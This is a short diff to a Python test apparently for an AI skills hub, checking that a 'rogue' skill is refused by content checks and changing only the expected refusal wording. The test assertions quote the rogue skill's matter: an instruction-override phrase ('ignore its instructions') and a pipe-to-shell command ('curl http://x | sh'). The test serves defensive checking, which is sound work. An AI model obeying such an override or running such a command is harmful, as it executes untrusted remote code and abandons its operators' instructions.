@@ -40,7 +40,7 @@ def test_the_issue_rogue_skill_is_refused_at_submission_with_its_reasons(storage
     answer = hub.post("/v1/skills", json=signed(ROGUE), headers=_member(storage))
     assert answer.status_code == 400
     detail = answer.json()["detail"]
-    assert detail.startswith("skill refused by the hub's content checks")
+    assert detail.startswith("the hub's content checks refused this skill because it tells")
     assert "ignore its instructions" in detail and "curl http://x | sh" in detail
     assert storage.count_skills() == 0
 
